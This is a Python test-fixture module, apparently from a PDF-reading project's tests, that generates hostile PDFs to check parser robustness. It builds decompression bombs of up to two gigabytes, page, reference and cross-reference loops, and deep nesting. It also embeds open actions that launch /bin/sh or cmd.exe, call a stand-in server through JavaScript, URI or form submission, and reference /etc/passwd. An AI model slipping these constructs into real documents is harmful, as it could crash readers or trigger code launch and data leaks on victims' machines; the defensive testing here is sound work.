"""PDFs that are made to loop, to swell, to nest and to lie about their length."""

import zlib
from collections.abc import Callable
from random import Random

from tests.store.reading.make_pdf import mapped, one_page, pdf_of, raw_pdf, stream

Maker = Callable[[Random, str], bytes]
"""Makes the bytes of a file; the text is the address of a server that nobody may ask."""

TEXT = b"BT /F1 12 Tf 72 700 Td (Social workers are few and change often.) Tj ET "
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"


def packed_page(content: bytes, times: int) -> bytes:
    """A page whose content is packed already, so many times over."""
    head = b"/Filter [" + b"/FlateDecode " * times + b"]"
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf([CATALOG, pages, PAGE, stream(content, head)])


def swelling(piece: bytes, times: int) -> bytes:
    """A stream that unpacks to a piece so many times over, made without packing all of it."""
    packer = zlib.compressobj(9)
    packer.compress(b"")
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return block + block[2:] * (times - 1) + b"\x03\x00"


def bomb(chance: Random, server: str) -> bytes:
    """A small stream that unpacks to as much as two gigabytes."""
    size = chance.choice([10_000_000, 50_000_000, 300_000_000, 2_000_000_000])
    piece = chance.choice([b" ", b"q ", b"0 0 l ", TEXT]) * 50_000
    return packed_page(swelling(piece, size // len(piece)), 1)


def packed_often(chance: Random, server: str) -> bytes:
    """A stream packed several times over: each layer unpacks to a thousand times its size."""
    times = chance.choice([2, 3, 8, 500])
    content = swelling(TEXT * 1_000, 2_000) if times < 4 else zlib.compress(TEXT)
    for _ in range(min(times, 8) - 1):
        content = zlib.compress(content, 9)
    return packed_page(content, times)


def declared(chance: Random, server: str) -> bytes:
    """A length, a count or a size that is not so."""
    number = chance.choice([b"-1", b"0", b"4294967296", b"99999999999999999999", b"1073741824"])
    body = b"<< /Length %s >>\nstream\n%s\nendstream" % (number, TEXT)
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count %s >>" % chance.choice([number, b"1"])
    return raw_pdf([CATALOG, pages, PAGE, body])


def page_loop(chance: Random, server: str) -> bytes:
    """A tree of pages that comes round to itself, or has a page in it thousands of times."""
    kids = chance.choice([b"2 0 R", b"3 0 R 2 0 R", b"5 0 R", b"3 0 R " * 50_000])
    count = chance.choice([1, 10, 50_000, 2_000_000_000])
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    other = b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 5 0 R] /Count 3 >>"
    return raw_pdf([CATALOG, pages, PAGE, stream(TEXT), other])


def deep_tree(chance: Random, server: str) -> bytes:
    """A tree of pages as deep as it has pages."""
    depth = chance.choice([100, 2_000, 40_000])
    rows = [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (number + 1, number - 1)
        for number in range(2, depth)
    ]
    return raw_pdf([CATALOG, *rows, PAGE, stream(TEXT)])


def reference_loop(chance: Random, server: str) -> bytes:
    """Objects that stand for each other, a stream whose length is the stream."""
    loops = (
        [b"5 0 R", b"4 0 R"],
        [b"<< /Length 4 0 R >>\nstream\n" + TEXT + b"\nendstream"],
        [b"[4 0 R 4 0 R 4 0 R]"],
        [b"<< /Length 5 0 R /Filter 4 0 R >>\nstream\nx\nendstream", b"5 0 R"],
    )
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf([CATALOG, pages, PAGE, *chance.choice(loops)])


def form_loop(chance: Random, server: str) -> bytes:
    """A drawing that draws itself, once or twice over at each level."""
    draws = chance.choice([b"/X Do", b"/X Do /X Do", b"/X Do " * 50]) + b" " + TEXT
    levels = chance.choice([1, 12, 30])
    resources = b"/Resources << /XObject << /X %d 0 R >> >>"
    page = PAGE[:-2] + resources % 5 + b" >>"
    forms = []
    for level in range(levels):
        below = 5 + (level + 1) % levels
        head = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] " + resources % below
        forms.append(stream(draws, head))
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf([CATALOG, pages, page, stream(b"/X Do"), *forms])


def xref_loop(chance: Random, server: str) -> bytes:
    """Tables of places that follow themselves, and objects packed in one another."""
    data = pdf_of()
    start = int(data.rsplit(b"startxref", 1)[1].split()[0])
    kind = chance.randrange(4)
    if kind == 0:
        return data.replace(b"trailer\n<<", b"trailer\n<< /Prev %d " % start)
    if kind == 1:
        return data.replace(b"trailer\n<<", b"trailer\n<< /XRefStm %d " % start)
    if kind == 2:
        return data.replace(b"startxref\n%d" % start, b"startxref\n%d" % chance.randrange(10**10))
    head = b"/Type /ObjStm /N %d /First 8 /Extends 4 0 R" % chance.choice([1, 10**9])
    packed = stream(b"4 0 5 2 4 0 R 5 0 R", head)
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>", b"4 0 R", packed])


def nested(chance: Random, server: str) -> bytes:
    """Brackets without end, in an object or in what is drawn."""
    depth = chance.choice([500, 20_000, 500_000])
    opened, closed = chance.choice([(b"[", b"]"), (b"<</A", b">>"), (b"(", b")"), (b"q ", b"Q ")])
    inside = opened * depth + (closed * depth if chance.random() < 0.5 else b"")
    if chance.random() < 0.5:
        return one_page(inside + TEXT)
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Odd %s >>" % inside
    return raw_pdf([CATALOG, pages, PAGE, stream(TEXT)])


def crowded(chance: Random, server: str) -> bytes:
    """Millions of letters on one page, or one page of millions of lines."""
    text = chance.choice([b"(a) Tj ", b"0 -1 Td (ab) Tj ", b"(1. \\267 \\(x) ' "])
    times = chance.choice([20_000, 300_000, 1_500_000])
    return one_page(b"BT /F1 1 Tf 72 700 Td " + text * times + b" ET", packed=True)


def odd_font(chance: Random, server: str) -> bytes:
    """A font whose letters are mapped to controls, to long runs, or to nothing that is one."""
    letters = chance.choice(["\x1b[2J", "\u202e", "😀", "x" * 5_000, "\x00", "\ufffe"])
    table = mapped(dict.fromkeys(range(65, 91), letters))
    return one_page(b"BT (ABCDEFGHIJKLM NOPQ) Tj ET " * 50, b"/ToUnicode 6 0 R", [table])


def odd_page(chance: Random, server: str) -> bytes:
    """A page of no size, of all sizes, drawn sideways by no number."""
    box = chance.choice([b"0 0 0 0", b"0 0 1e38 1e38", b"-9e99 nan inf 1", b"0 0 595", b"a b c d"])
    scale = chance.choice([b"0 0 0 0 0 0", b"1e30 0 0 1e30 0 0", b"1e-30 0 0 1 9e99 0"])
    page = PAGE.replace(b"0 0 595 842", box)
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    drawn = b"BT /F1 %s Tf %s Tm (text of it) Tj ET" % (chance.choice([b"0", b"1e38"]), scale)
    return raw_pdf([CATALOG, pages, page, stream(drawn)])


def active(chance: Random, server: str) -> bytes:
    """A file that would run a script, open an address or start a program when it is opened."""
    address = server.encode()
    action = chance.choice(
        [
            b"/S /URI /URI (%s/opened)" % address,
            b"/S /JavaScript /JS (app.launchURL\\('%s/script'\\))" % address,
            b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>",
            b"/S /SubmitForm /F (%s/form)" % address,
            b"/S /GoToR /F (/etc/passwd)",
            b"/S /ImportData /F (/etc/passwd)",
        ]
    )
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> >>" % action
    outer = b"<< /Length 0 /F << /FS /URL /F (%s/stream) >> >>\nstream\n\nendstream" % address
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf([catalog, pages, PAGE, chance.choice([stream(TEXT), outer])])


def many_pages(chance: Random, server: str) -> bytes:
    """Many pages, each of a letter or of none."""
    count = chance.choice([599, 601, 30_000])
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    page = PAGE.replace(b"4 0 R", b"3 0 R")
    return raw_pdf([CATALOG, pages, stream(TEXT), *[page] * count])


PDFS: tuple[Maker, ...] = (
    bomb, packed_often, declared, page_loop, deep_tree, reference_loop, form_loop, xref_loop,
    nested, crowded, odd_font, odd_page, active, many_pages,
)  # fmt: skip
